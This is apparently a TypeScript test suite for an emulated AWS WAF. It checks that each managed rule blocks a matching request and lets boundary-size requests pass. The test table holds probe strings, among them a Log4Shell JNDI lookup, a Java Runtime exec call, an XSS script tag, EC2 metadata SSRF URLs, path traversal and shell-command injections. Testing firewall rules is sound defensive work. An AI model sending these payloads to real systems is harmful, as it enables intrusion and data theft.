import { MANAGED_RULES } from "../../../../src/model/aws/managed-rules";
import { aRequest, type Wanted } from "./a-request";
import { judge } from "./judge";
import { ruleNames } from "./managed-rule";
import { RULE_GROUPS } from "./rule-groups";
import { webAcl } from "./web-acl-of";

const METADATA = "http://169.254.169.254/latest/meta-data/";
const REMOTE = "see=http://192.0.2.1/payload";
const SCRIPT = "<script>alert(1)</script>";
const JAVA = "(java.lang.Runtime).getRuntime().exec('whoami')";
const JNDI = "${jndi:ldap://example.com/}";
const of = (length: number) => "x".repeat(length);
const cookie = (value: string): Wanted => ({ headers: { cookie: value } });
const header = (value: string): Wanted => ({ headers: { "x-note": value } });
const encoded = encodeURIComponent;

/** For each rule a request that AWS blocks by it. */
const REFUSED: readonly (readonly [group: string, rule: string, request: Wanted])[] = [
  ["Common", "NoUserAgent_HEADER", { headers: { "user-agent": "" } }],
  ["Common", "UserAgent_BadBots_HEADER", { headers: { "user-agent": "Nmap Scripting Engine" } }],
  ["Common", "SizeRestrictions_QUERYSTRING", { query: of(2049) }],
  ["Common", "SizeRestrictions_Cookie_HEADER", cookie(of(10_241))],
  ["Common", "SizeRestrictions_BODY", { body: of(8193) }],
  ["Common", "SizeRestrictions_URIPATH", { path: `/${of(1024)}` }],
  ["Common", "EC2MetaDataSSRF_BODY", { body: "at 169.254.169.254" }],
  ["Common", "EC2MetaDataSSRF_COOKIE", cookie("at=169.254.169.254")],
  ["Common", "EC2MetaDataSSRF_URIPATH", { path: "/prod/169.254.169.254" }],
  ["Common", "EC2MetaDataSSRF_QUERYARGUMENTS", { query: "at=169.254.169.254" }],
  ["Common", "GenericLFI_QUERYARGUMENTS", { query: "file=..%2F..%2Fsecret" }],
  ["Common", "GenericLFI_URIPATH", { path: "/prod/%2e%2e/secret" }],
  ["Common", "GenericLFI_BODY", { body: "../../secret" }],
  ["Common", "RestrictedExtensions_URIPATH", { path: "/prod/files/server.log" }],
  ["Common", "RestrictedExtensions_QUERYARGUMENTS", { query: "file=settings.ini" }],
  ["Common", "GenericRFI_QUERYARGUMENTS", { query: `a=b&${REMOTE}` }],
  ["Common", "GenericRFI_BODY", { body: REMOTE }],
  ["Common", "GenericRFI_URIPATH", { path: "/prod/ftp://192.0.2.1" }],
  ["Common", "CrossSiteScripting_COOKIE", cookie(SCRIPT)],
  ["Common", "CrossSiteScripting_QUERYARGUMENTS", { query: `q=${encoded(SCRIPT)}` }],
  ["Common", "CrossSiteScripting_BODY", { body: SCRIPT }],
  ["Common", "CrossSiteScripting_URIPATH", { path: `/prod/${encoded(SCRIPT)}` }],
  ["AdminProtection", "AdminProtection_URIPATH", { path: "/prod/sqlmanager" }],
  ["KnownBadInputs", "JavaDeserializationRCE_HEADER", header(JAVA)],
  ["KnownBadInputs", "JavaDeserializationRCE_BODY", { body: JAVA }],
  ["KnownBadInputs", "JavaDeserializationRCE_URIPATH", { path: `/prod/${encoded(JAVA)}` }],
  ["KnownBadInputs", "JavaDeserializationRCE_QUERYSTRING", { query: encoded(JAVA) }],
  ["KnownBadInputs", "Host_localhost_HEADER", { headers: { host: "localhost" } }],
  ["KnownBadInputs", "PROPFIND_METHOD", { method: "PROPFIND" }],
  ["KnownBadInputs", "ExploitablePaths_URIPATH", { path: "/prod/WEB-INF/web.xml" }],
  ["KnownBadInputs", "Log4JRCE_HEADER", header(JNDI)],
  ["KnownBadInputs", "Log4JRCE_BODY", { body: JNDI }],
  ["KnownBadInputs", "Log4JRCE_URIPATH", { path: `/prod/${encoded(JNDI)}` }],
  ["KnownBadInputs", "Log4JRCE_QUERYSTRING", { query: `q=${encoded(JNDI)}` }],
  ["Linux", "LFI_URIPATH", { path: "/prod/proc/version" }],
  ["Linux", "LFI_QUERYSTRING", { query: "file=%2Fproc%2Fversion" }],
  ["Linux", "LFI_HEADER", header("/proc/version")],
  ["Unix", "UNIXShellCommandsVariables_QUERYSTRING", { query: "run=echo+$PATH" }],
  ["Unix", "UNIXShellCommandsVariables_BODY", { body: "echo $PATH" }],
  ["Unix", "UNIXShellCommandsVariables_HEADER", header("echo $PATH")],
  ["Windows", "WindowsShellCommands_COOKIE", cookie("a=b||nslookup")],
  ["Windows", "WindowsShellCommands_QUERYARGUMENTS", { query: "a=b%3Bcmd" }],
  ["Windows", "WindowsShellCommands_BODY", { body: "a;cmd" }],
  ["Windows", "PowerShellCommands_COOKIE", cookie("Invoke-Expression")],
  ["Windows", "PowerShellCommands_QUERYARGUMENTS", { query: "run=Invoke-Expression" }],
  ["Windows", "PowerShellCommands_BODY", { body: "Invoke-Expression" }],
  ["PHP", "PHPHighRiskMethodsVariables_HEADER", header("fsockopen(1)")],
  ["PHP", "PHPHighRiskMethodsVariables_QUERYSTRING", { query: "q=$_GET" }],
  ["PHP", "PHPHighRiskMethodsVariables_BODY", { body: "$_GET" }],
  ["WordPress", "WordPressExploitableCommands_QUERYSTRING", { query: "do-reset-wordpress" }],
  ["WordPress", "WordPressExploitablePaths_URIPATH", { path: "/prod/xmlrpc.php" }],
];

/** For each limit the largest that passes. */
const PASSED: readonly (readonly [what: string, request: Wanted])[] = [
  ["a request of 2,048 bytes of query", { query: of(2048) }],
  ["a request of 10,240 bytes of cookies", cookie(of(10_240))],
  ["a body of 8,192 bytes", { method: "POST", body: of(8192) }],
  ["a path of 1,024 bytes", { path: `/${of(1023)}` }],
  ["a URL without an IPv4 address in a parameter", { query: "next=https://example.com/a" }],
  ["an extension within a name", { path: "/prod/files/server.log.txt" }],
  ["dots within a name", { path: "/prod/files/a..b" }],
];

const unrated = { rate: () => 0 };
const judged = (group: string, wanted: Wanted, statement = {}) =>
  judge(webAcl({ Name: `AWSManagedRules${group}RuleSet`, ...statement }), {
    request: aRequest(wanted),
    ...unrated,
  });

describe.each(REFUSED)(
  "a rule of a managed group blocks what it matches, and lets it pass where it is overridden to count: %s, %s",
  (group, rule, wanted) => {
    it("blocks", () => {
      expect(judged(group, wanted)).toEqual([{ rule, verdict: "block" }]);
    });

    it("lets pass where it is overridden to count", () => {
      const RuleActionOverrides = [{ Name: rule, ActionToUse: { Count: {} } }];
      expect(judged(group, wanted, { RuleActionOverrides })).toEqual([{ rule, verdict: "count" }]);
    });
  },
);

test.each(PASSED)("no rule of the core rule set blocks %s", (_, wanted) => {
  expect(judged("Common", wanted)).toEqual([]);
});

test("of a body that is larger than WAF sees, what is beyond 16 KB is not looked at", () => {
  const RuleActionOverrides = [{ Name: "SizeRestrictions_BODY", ActionToUse: { Count: {} } }];
  const beyond = { body: of(16_384) + METADATA };
  expect(judged("Common", beyond, { RuleActionOverrides })).toEqual([
    { rule: "SizeRestrictions_BODY", verdict: "count" },
  ]);
});

test("every rule that is evaluated is in the table above", () => {
  const evaluated = Object.values(RULE_GROUPS).flatMap(({ rules }) => rules.map(({ name }) => name));
  expect(REFUSED.map(([, rule]) => rule).toSorted()).toEqual(evaluated.toSorted());
});

test("the gateway and the deployment file know the same rules, from two tables", () => {
  const sorted = (groups: readonly (readonly [string, readonly string[]])[]) =>
    Object.fromEntries(groups.map(([name, rules]) => [name, rules.toSorted()]));
  const known = Object.entries(RULE_GROUPS).map(([name, group]) => [name, ruleNames(group)] as const);
  expect(sorted(known)).toEqual(sorted(Object.entries(MANAGED_RULES)));
});
